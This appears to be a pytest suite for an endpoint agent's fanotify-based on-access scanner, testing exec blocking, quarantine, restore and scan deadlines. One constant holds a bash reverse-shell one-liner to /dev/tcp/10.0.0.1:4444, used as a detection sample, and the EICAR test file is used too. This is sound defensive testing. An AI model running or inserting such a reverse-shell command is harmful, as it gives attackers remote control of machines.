"""
On-access scanning and blocking (fanotify).  Every test mounts a tmpfs of
its own and gives only that to the agent: no permission mark is ever put
on a mount the test did not create.
"""

import json
import os
import shutil
import signal
import subprocess
import time

import pytest

from agentlib import EICAR_RULE, crafted, onaccess_box, wait_events
from conftest import EICAR

REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"


@pytest.fixture
def box(ward, tmp_path):
    with onaccess_box(ward, tmp_path, "on-access") as b:
        yield b


def write_exec(path, data):
    with open(path, "wb") as f:
        f.write(data)
    os.chmod(path, 0o755)
    return path


def exec_cmd(path):
    """Runs path through sh's exec, so that a denied exec is an exit status
    (126, "Operation not permitted") and a blocked one does not block the
    test in Popen."""
    return ["/bin/sh", "-c", 'exec "$0"', path]


def run(path, timeout=10):
    t0 = time.time()
    p = subprocess.run(exec_cmd(path), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       timeout=timeout)
    return p, time.time() - t0


def test_exec_of_detected_file_denied(box):
    a = box.agent()
    good = write_exec(os.path.join(box.mnt, "good.sh"), b"#!/bin/sh\necho clean-ran\n")
    shutil.copy("/bin/true", os.path.join(box.mnt, "true"))
    bad = write_exec(os.path.join(box.mnt, "update.sh"), REVSHELL)
    p, _ = run(good)
    assert p.returncode == 0 and p.stdout == b"clean-ran\n"
    p, _ = run(os.path.join(box.mnt, "true"))
    assert p.returncode == 0
    p, _ = run(bad)
    assert p.returncode == 126 and b"Operation not permitted" in p.stderr, p
    # Again (from the verdict cache): still denied.
    p, _ = run(bad)
    assert p.returncode == 126
    st = a.status()["sensors"]["onaccess"]
    assert st["state"] == "on" and st["counters"]["denied"] == 2
    assert st["counters"]["cache_hits"] >= 1
    denied = wait_events(a, "file-execution-denied", 2)
    ev = denied[0]
    assert ev["file"]["path"] == bad and ev["rule"]["name"] == "Reverse_Shell_Oneliner"
    assert ev["event"]["kind"] == "alert" and ev["event"]["type"] == ["denied"]
    assert ev["process"]["pid"] > 0
    # Rewriting the file with clean content lets it run (the write drops the verdict).
    write_exec(bad, b"#!/bin/sh\necho fixed\n")
    p, _ = run(bad)
    assert p.returncode == 0 and p.stdout == b"fixed\n"


def test_written_detection_reported(box):
    a = box.agent()
    with open(os.path.join(box.mnt, "eicar.com"), "wb") as f:
        f.write(EICAR)
    evs = wait_events(a, "file-written-detected")
    assert evs[0]["file"]["path"] == os.path.join(box.mnt, "eicar.com")
    assert evs[0]["rule"]["name"].startswith("EICAR_Test_File")


def test_stuck_scan_fails_open_at_the_deadline(box):
    a = box.agent(extra=["  deadline_ms: 200"], fault=True,
                  env_vars={"WARD_FAULT_SCAN_STALL_MS": "3000"})
    shutil.copy("/bin/true", os.path.join(box.mnt, "true"))
    time.sleep(0.2)
    p, took = run(os.path.join(box.mnt, "true"))
    assert p.returncode == 0
    assert took < 2.0, "exec waited %.2f s: the deadline did not answer" % took
    assert a.status()["sensors"]["onaccess"]["counters"]["late"] >= 1


def test_stuck_scan_fail_closed(box):
    a = box.agent(extra=["  deadline_ms: 200", "  fail_closed: true"], fault=True,
                  env_vars={"WARD_FAULT_SCAN_STALL_MS": "3000"})
    shutil.copy("/bin/true", os.path.join(box.mnt, "true"))
    time.sleep(0.2)
    p, took = run(os.path.join(box.mnt, "true"))
    assert p.returncode == 126 and took < 2.0
    assert a.status()["sensors"]["onaccess"]["counters"]["late"] >= 1


def test_worker_death_releases_pending_access(box):
    """A blocked exec goes through when the worker dies: the kernel answers
    every pending permission event when the fanotify descriptor closes."""
    a = box.agent(extra=["  deadline_ms: 60000"], fault=True,
                  env_vars={"WARD_FAULT_SCAN_STALL_MS": "60000"})
    shutil.copy("/bin/true", os.path.join(box.mnt, "true"))
    time.sleep(0.2)
    pid = a.worker_pid()
    t0 = time.time()
    proc = subprocess.Popen(exec_cmd(os.path.join(box.mnt, "true")))
    time.sleep(1.0)
    assert proc.poll() is None, "the exec should be waiting for the stalled scan"
    os.kill(pid, signal.SIGKILL)
    assert proc.wait(timeout=10) == 0
    assert time.time() - t0 < 10


def test_sensor_off_is_said(box, tmp_path):
    a = box.agent(paths=[str(tmp_path / "does-not-exist")])
    st = a.status()["sensors"]["onaccess"]
    assert st["state"] == "off" and "does-not-exist" in st["reason"]
    evs = wait_events(a, "sensor-off")
    assert evs[0]["ward"]["sensor"] == "onaccess"


def test_written_eicar_quarantined_and_restored(box):
    a = box.agent(extra=["  on_write: quarantine"])
    target = os.path.join(box.mnt, "downloads", "eicar.com")
    os.makedirs(os.path.dirname(target))
    # An empty file first (nothing to detect), with the owner and mode to
    # keep; then the content, whose close triggers the quarantine.
    open(target, "wb").close()
    os.chown(target, 1234, 5678)
    os.chmod(target, 0o640)
    with open(target, "r+b") as f:
        f.write(EICAR)
    evs = wait_events(a, "file-quarantined")
    assert not os.path.exists(target)
    qid = evs[-1]["ward"]["quarantine"]["id"]
    assert evs[-1]["file"]["hash"]["sha256"] == __import__("hashlib").sha256(EICAR).hexdigest()
    # The store holds it encrypted: the EICAR bytes appear nowhere in it.
    qdir = os.path.join(a.state, "quarantine")
    assert oct(os.stat(qdir).st_mode & 0o777) == "0o700"
    for name in os.listdir(qdir):
        assert b"EICAR-STANDARD" not in open(os.path.join(qdir, name), "rb").read()
    p = box.ward.run("quarantine", "--state-dir", a.state, "--run-dir", a.run_dir, "list",
                     "--json")
    assert p.returncode == 0, p.stderr
    entries = [e for e in json.loads(p.stdout) if e["id"] == qid]
    assert len(entries) == 1 and entries[0]["path"] == target
    assert (entries[0]["uid"], entries[0]["gid"], entries[0]["mode"]) == (1234, 5678, 0o640)
    mtime = entries[0]["mtime"]
    # Restore through the agent: byte-identical, same owner, mode and mtime,
    # and not quarantined again.
    p = box.ward.run("quarantine", "--state-dir", a.state, "--run-dir", a.run_dir, "restore", qid)
    assert p.returncode == 0, p.stderr
    time.sleep(0.5)
    assert open(target, "rb").read() == EICAR
    st = os.stat(target)
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (1234, 5678, 0o640)
    assert time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(st.st_mtime)) == mtime
    assert wait_events(a, "file-restored")
    p = box.ward.run("quarantine", "--state-dir", a.state, "--run-dir", a.run_dir, "list",
                     "--json")
    assert all(e["id"] != qid for e in json.loads(p.stdout))
    # A bad id is refused.
    p = box.ward.run("quarantine", "--state-dir", a.state, "--run-dir", a.run_dir, "restore",
                     "0123456789abcdef")
    assert p.returncode == 2 and "no such quarantine entry" in p.stderr


def test_quarantine_without_agent(box, tmp_path):
    """With no agent running, ward works on the store itself."""
    a = box.agent(extra=["  on_write: quarantine"])
    target = os.path.join(box.mnt, "eicar.com")
    with open(target, "wb") as f:
        f.write(EICAR)
    qid = wait_events(a, "file-quarantined")[-1]["ward"]["quarantine"]["id"]
    a.stop()
    run = str(tmp_path / "no-agent")
    p = box.ward.run("quarantine", "--state-dir", a.state, "--run-dir", run, "restore", qid)
    assert p.returncode == 0, p.stderr
    assert open(target, "rb").read() == EICAR
    p = box.ward.run("quarantine", "--state-dir", a.state, "--run-dir", run, "delete", qid)
    assert p.returncode == 2 and "no such quarantine entry" in p.stderr


def test_block_open_opt_in(box):
    """onaccess.block_open: plain opens of detected files directly in the
    listed directories are denied; elsewhere opens are not held."""
    guarded = os.path.join(box.mnt, "uploads")
    other = os.path.join(box.mnt, "other")
    os.makedirs(guarded)
    os.makedirs(other)
    a = box.agent(extra=["  block_open: [%s]" % guarded])
    for d in (guarded, other):
        with open(os.path.join(d, "eicar.com"), "wb") as f:
            f.write(EICAR)
        with open(os.path.join(d, "clean.txt"), "wb") as f:
            f.write(b"hello\n")
    with pytest.raises(PermissionError):
        open(os.path.join(guarded, "eicar.com"), "rb").read()
    assert open(os.path.join(guarded, "clean.txt"), "rb").read() == b"hello\n"
    assert open(os.path.join(other, "eicar.com"), "rb").read() == EICAR
    ev = wait_events(a, "file-open-denied")[0]
    assert ev["file"]["path"] == os.path.join(guarded, "eicar.com")


def test_clean_verdict_kept_by_the_kernel_until_the_file_or_content_changes(box):
    """A file found clean is not asked about again (an ignore mark): the
    open costs no round trip to the agent.  Modifying the file, or new
    content, makes the kernel ask again."""
    guarded = os.path.join(box.mnt, "uploads")
    os.makedirs(guarded)
    a = box.agent(extra=["  block_open: [%s]" % guarded])
    clean = os.path.join(guarded, "clean.txt")
    later = os.path.join(guarded, "later.txt")
    with open(clean, "wb") as f:
        f.write(b"hello\n")
    with open(later, "wb") as f:
        f.write(b"nothing known yet: ward-later-marker\n")
    for path in (clean, later):
        open(path, "rb").read()
    c0 = a.status()["sensors"]["onaccess"]["counters"]
    assert c0["ignored"] >= 2, c0
    for _ in range(20):
        assert open(clean, "rb").read() == b"hello\n"
    c1 = a.status()["sensors"]["onaccess"]["counters"]
    assert c1["events"] == c0["events"], "the kernel still asked about a file found clean"
    # Modified: the kernel drops the ignore mark, the next open is scanned.
    with open(clean, "wb") as f:
        f.write(EICAR)
    with pytest.raises(PermissionError):
        open(clean, "rb").read()
    # New content that detects later.txt: its clean verdict is forgotten.
    rule = EICAR_RULE + b'rule Later_Marker { strings: $m = "ward-later-marker" condition: $m }\n'
    v2 = os.path.join(box.tmp, "v2.wbundle")
    with open(v2, "wb") as f:
        f.write(crafted(2, box.rel, str(box.tmp), rules=rule))
    p = a.apply(v2)
    assert p.returncode == 0, p.stdout + p.stderr
    with pytest.raises(PermissionError):
        open(later, "rb").read()
    ev = [e for e in wait_events(a, "file-open-denied", 2) if e["file"]["path"] == later]
    assert ev and ev[0]["rule"]["name"] == "Later_Marker"
